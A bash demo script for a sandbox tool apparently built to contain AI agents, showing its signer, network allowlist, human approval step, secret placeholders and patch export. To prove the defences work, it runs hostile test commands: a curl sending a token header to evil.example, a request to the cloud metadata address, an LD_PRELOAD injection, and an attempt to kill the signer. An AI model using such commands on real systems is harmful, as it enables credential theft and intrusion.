#!/bin/bash
# make demo: a dev signer and the daemon in a temporary state dir, a box from a
# Debian 12 image built once with mmdebstrap from this machine's own apt
# configuration (cached; the box's root comes through src/image's cache:
# `--image oci:DIR:latest`, flattened into a cached ext4), commands decided by
# the signer (one it denies), then the network door: an allowed install from the
# mirror the image's apt sources name (the debian preset), a test origin in a
# network namespace this script makes, a host held until a person approves it
# (from "another terminal": a background job here), a refused metadata address;
# then the secrets door (the reference demo's secret steps, with tests/secrets/origin.py standing in for
# api.github.com and evil.example in that namespace): `echo "$GH"` prints a placeholder, the bound host gets
# the real token, plain HTTP to evil.example is blocked as a leak; stop, export and an offline verify of the
# bundle with its network and secret records (and no value in it). The box's /workspace is a small git checkout:
# the reference's x.txt step (`echo hi > /workspace/x.txt && tkbox diff demo`), and after the stop `tkbox apply`
# of the saved patch into a copy of that checkout.
# usage: tests/demo.sh BUILD_DIR
set -uo pipefail
BUILD=${1:-build}
# tests/secrets/lib.sh brings tests/egress/lib.sh and tests/daemon/lib.sh (signer, daemon), the test network
# and its origin; their EXIT trap cleans up.
source "$(dirname "$0")/secrets/lib.sh"
start=$(date +%s.%N)

say() { printf '\n\033[1m# %s\033[0m\n' "$*"; }
show() { printf '\033[1m$ %s\033[0m\n' "$*"; }
step() { show "$*"; "$@"; }
# A step that may fail on purpose: print its exit status.
step_rc() {
	show "$*"
	"$@"
	printf '(exit %d)\n' $?
}

for bin in "$TKBOX" "$BUILD/tkbox-host" "$SIGNER" "$BUILD/tkbox-guest-linux-amd64"; do
	if [ ! -x "$bin" ]; then
		echo "demo: $bin is missing: run make build first" >&2
		exit 1
	fi
done
step "$TKBOX" version

say "A Debian 12 image (mmdebstrap from this machine's apt sources; built once, cached in $CACHE)"
show "tests/egress/debian-image.sh"
eg_image
IMG=oci:$EG_LAYOUT:latest
echo "$IMG"

say "A test origin (HTTPS with a test CA, and plain HTTP) and dnsmasq in a network namespace this script made"
echo "(tests/secrets/origin.py: origin.test.example, and api.github.com and evil.example pinned there by the daemon's --resolve; nothing leaves this machine)"
sc_up

say "A same-user dev signer (its key and log in $WORK/signer)"
step "$SIGNER" init --dev --dir "$WORK/signer" || exit 1
signer_start || exit 1
echo "signer serving $TKBOX_SIGNER_SOCKET"

say "The daemon (exits at once when no signer answers; the first start fetches the guest kernel with apt-get)"
show "tkbox daemon --egress-ca TEST-CA --resolve api.github.com=$EG_ORIGIN_IP --resolve evil.example=$EG_OTHER_IP > $WORK/daemon.log 2>&1 &"
echo "(its resolver: the test dnsmasq, which forwards other names; --egress-ca: the proxy trusts the test origin's CA when it reads a connection)"
sc_daemon_start || exit 1
sed 's/^/  /' "$WORK/daemon.log"

say "A small git checkout for the box's /workspace (the box sees a copy; its changes come back only as a patch)"
DEMO_CO=$WORK/demo-checkout
mkdir -p "$DEMO_CO" && (cd "$DEMO_CO" && git init -q -b main . && printf '# demo\n' >README.md &&
	git add README.md && git -c user.name=demo -c user.email=demo@tkbox.invalid commit -qm init) || exit 1
step git -C "$DEMO_CO" log --oneline --stat

say "Run a box: no network card, its own kernel; the allowlist is the debian preset (the hosts of the image's apt sources) and the test origin; a GitHub token the box never sees"
echo "export GH_TOKEN=ghp_...    # here a random stand-in the test origin knows"
show "$TKBOX run --image $IMG --name demo --workspace $DEMO_CO --allow debian --allow origin.test.example --secret GH=env:GH_TOKEN@api.github.com --memory 512M --disk 512M"
GH_TOKEN=$SC_VALUE eg_box demo --workspace "$DEMO_CO" --allow debian --allow origin.test.example --secret GH=env:GH_TOKEN@api.github.com || {
	cat "$WORK/run-demo.err"
	sed 's/^/  /' "$WORK/daemon.log"
	exit 1
}
# With a secret the box's env points curl, python and git at the per-box CA's bundle (/etc/tkbox/ca-bundle.crt):
# the test CA goes there too, for the origin the proxy does not read (origin.test.example).
"$TKBOX" exec -i demo -- sh -c 'test ! -f /etc/tkbox/ca-bundle.crt || cat >> /etc/tkbox/ca-bundle.crt' <"$EG_CA" >/dev/null
echo "(the test CA appended to the box's CA bundles)"
step "$TKBOX" images ls
show "$TKBOX ls --json | jq '.[0].egress'"
"$TKBOX" ls --json | jq '(if type == "array" then .[0] else (.boxes // [])[0] end).egress'

say "Commands: each one is decided by the signer before it starts"
step "$TKBOX" exec demo -- uname -sr
step "$TKBOX" exec demo -- sh -c 'echo "hello from $(hostname)"; ls /'
step "$TKBOX" exec demo -- cat /proc/net/dev
show "echo 'print me' | tkbox exec -i demo -- cat"
echo 'print me' | "$TKBOX" exec -i demo -- cat
step_rc "$TKBOX" exec demo -- sh -c 'exit 3'

say "A command the policy denies: it never starts (exit 126, the rule on stderr)"
step_rc "$TKBOX" exec demo -- pkill tkbox-signer

say "A per-exec env name that changes what runs is refused before anyone is asked"
step_rc "$TKBOX" exec demo --env LD_PRELOAD=/tmp/evil.so -- true

step "$TKBOX" ls

say "The network door: every connection goes through the host proxy and is decided before it is dialled"
step "$TKBOX" exec demo -- sh -c 'env | grep -i _proxy | sort'
say "An allowed install: apt through the proxy to the mirror the image's sources name (the debian preset)"
step "$TKBOX" exec --timeout 15m demo -- sh -c 'apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq jq >/dev/null && jq --version'
say "An allowlisted origin over HTTPS"
step "$TKBOX" exec demo -- curl -sS https://origin.test.example/index.txt
say "A host off the allowlist is held until a person on the host approves it; its name is not even looked up before"
show "$TKBOX exec demo -- curl -sS https://held.test.example/index.txt &"
"$TKBOX" exec demo -- curl -sS https://held.test.example/index.txt >"$WORK/held.out" 2>&1 &
held=$!
id=
for _ in $(seq 120); do
	id=$(approvals_json | jq -r '.[0].id // empty')
	[ -n "$id" ] && break
	sleep 0.5
done
dns_was_queried held.test.example && echo "(unexpected: held.test.example was looked up before the approval)" ||
	echo "(dnsmasq's log: held.test.example not looked up while it waits)"
echo "# in another terminal:"
step "$TKBOX" approvals
[ -n "$id" ] && step "$TKBOX" approve "$id"
wait "$held"
printf '(the held curl, now approved: exit %d)\n' $?
cat "$WORK/held.out"
say "Cloud metadata is refused before any decision, whatever the allowlist says"
step_rc "$TKBOX" exec demo -- curl -sS -i http://169.254.169.254/latest/meta-data/

say "Secrets: the box holds a placeholder, never the token"
show "$TKBOX exec demo -- sh -c 'echo \"\$GH\"'"
ph=$("$TKBOX" exec demo -- sh -c 'echo "$GH"')
echo "$ph"
say "The bound host: the proxy reads that connection (the box trusts its per-box CA), swaps the real token into Authorization and records tkbox.secret.use"
show "$TKBOX exec demo -- sh -c 'curl -sS -H \"Authorization: Bearer \$GH\" https://api.github.com/user'"
"$TKBOX" exec demo -- sh -c 'curl -sS -H "Authorization: Bearer $GH" https://api.github.com/user'
echo "(the origin standing in for api.github.com: real token received in Authorization $(sc_verdict .swapped.GH) time(s); anywhere else: $(sc_verdict '.violations | length'))"
say "Plain HTTP to a host GH is not bound to: the proxy reads it, finds GH's placeholder and blocks it at once (tkbox.secret.leak)"
show "$TKBOX exec demo -- sh -c 'curl -sS -i --max-time 30 -H \"Authorization: Bearer \$GH\" http://evil.example/'"
"$TKBOX" exec demo -- sh -c 'curl -sS -i --max-time 30 -H "Authorization: Bearer $GH" http://evil.example/' >"$WORK/evil.out" 2>&1
erc=$?
cat "$WORK/evil.out"
printf '\n(exit %d)\n' $erc
echo "(requests that reached evil.example: $(sc_reqs 'select(.host == "evil.example")' | grep -c .))"

say "The code door: the agent's edits to /workspace leave the box only as a git-format patch"
show "$TKBOX exec demo -- sh -c 'echo hi > /workspace/x.txt' && $TKBOX diff demo"
"$TKBOX" exec demo -- sh -c 'echo hi > /workspace/x.txt' && "$TKBOX" diff demo

say "Stop (the patch is saved with its digest), apply it into a copy of the checkout (a Write decision per file), export the run, verify the bundle offline"
step "$TKBOX" stop demo
DEMO_COPY=$WORK/demo-checkout-copy
cp -a "$DEMO_CO" "$DEMO_COPY"
step "$TKBOX" apply demo --checkout "$DEMO_COPY"
step git -C "$DEMO_COPY" status --short
step cat "$DEMO_COPY/x.txt"
step "$TKBOX" export demo -o "$WORK/demo.tkb"
step "$TKBOX" verify "$WORK/demo.tkb" --trust "$WORK/demo.trust.json"
rc=$?
if command -v python3 >/dev/null; then
	read -r dec res obs gaps reason kinds < <(bundle_counts "$WORK/demo.tkb")
	echo "records in the run: $dec decisions, $res results, $obs observations ($kinds), $gaps gaps; closed: $reason"
	echo "the network door's records:"
	bundle_egress "$WORK/demo.tkb" | jq -r 'if .type == "decision" then select(.tool == "WebFetch") | "  WebFetch decision: \(.decision) (rules \(.rule_ids | join(",")))"
		elif .type == "result" then select(.value.bytes_up != null) | "    its result: ok=\(.ok), \(.value.bytes_up) bytes up, \(.value.bytes_down) down"
		else "  \(.kind) \(.data | tostring | .[0:150])" end'
	echo "the secrets door's records: $(bundle_egress "$WORK/demo.tkb" | jq -s -r '[.[] | select(.kind == "tkbox.secret.use")] | length') tkbox.secret.use, $(bundle_egress "$WORK/demo.tkb" | jq -s -r '[.[] | select(.kind == "tkbox.secret.leak")] | length') tkbox.secret.leak"
	mkdir -p "$WORK/demo-bundle" && (cd "$WORK/demo-bundle" && python3 -c 'import sys, zipfile; zipfile.ZipFile(sys.argv[1]).extractall(".")' "$WORK/demo.tkb")
	held=$(sc_seen_in "$WORK/demo-bundle" "$TKBOX_STATE_DIR" "$WORK/daemon.log")
	echo "the token (or its first 6 bytes, hex, base64) in the bundle, the state dir or the daemon's log: ${held:-nowhere}"
	# The issue's acceptance, said plainly (and the demo's exit status).
	n_use=$(bundle_egress "$WORK/demo.tkb" | jq -s '[.[] | select(.kind == "tkbox.secret.use")] | length')
	n_leak=$(bundle_egress "$WORK/demo.tkb" | jq -s '[.[] | select(.kind == "tkbox.secret.leak")] | length')
	acc=
	[[ $ph =~ ^tkbox_GH_[0-9a-f]{32}$ ]] || acc+="; echo \$GH did not print a placeholder"
	[ "$(sc_verdict .swapped.GH)" -ge 1 ] 2>/dev/null || acc+="; the bound host did not receive the real token"
	{ head -n 1 "$WORK/evil.out" | grep -q ' 403' && grep -qi '^tkbox-rule: secret-leak' "$WORK/evil.out"; } ||
		acc+="; plain HTTP to evil.example was not blocked as a leak"
	[ "${n_use:-0}" -ge 1 ] || acc+="; the bundle has no tkbox.secret.use"
	[ "${n_leak:-0}" -ge 1 ] || acc+="; the bundle has no tkbox.secret.leak"
	[ -z "$held" ] || acc+="; the token is in $held"
	echo "secrets acceptance: ${acc:-ok}"
	[ -z "$acc" ] || rc=1
	# The patch door: x.txt landed in the copy only, through one Write decision completed with its path.
	pacc=
	[ "$(cat "$DEMO_COPY/x.txt" 2>/dev/null)" = hi ] || pacc+="; x.txt is not in the copy of the checkout"
	[ "$(git -C "$DEMO_COPY" status --porcelain | tr '\n' ' ')" = "?? x.txt " ] || pacc+="; the copy holds more than x.txt"
	[ ! -e "$DEMO_CO/x.txt" ] || pacc+="; the original checkout was written"
	n_write=$(python3 - "$WORK/demo.tkb" <<'PY'
import json, sys, zipfile
z = zipfile.ZipFile(sys.argv[1])
ev = [json.loads(l)["event"] for n in z.namelist() if n.startswith("runs/") for l in z.read(n).decode().splitlines()]
ids = {e["data"].get("decision_id") for e in ev if e.get("type") == "policy.decision" and e["data"].get("tool") == "Write"}
print(sum(1 for e in ev if e.get("type") == "tool.result" and e["data"].get("decision_id") in ids and
          e["data"].get("output", {}).get("value", {}).get("written_paths") == ["x.txt"]))
PY
)
	[ "${n_write:-0}" -eq 1 ] || pacc+="; the bundle has no Write completion naming x.txt"
	echo "patch acceptance: ${pacc:-ok}"
	[ -z "$pacc" ] || rc=1
fi
say "The box's events file"
sed 's/^/  /' "$TKBOX_STATE_DIR/boxes/demo/events.jsonl" | cut -c1-200
printf '\ndemo finished in %.1f s\n' "$(awk -v a="$start" -v b="$(date +%s.%N)" 'BEGIN { print b - a }')"
exit $rc
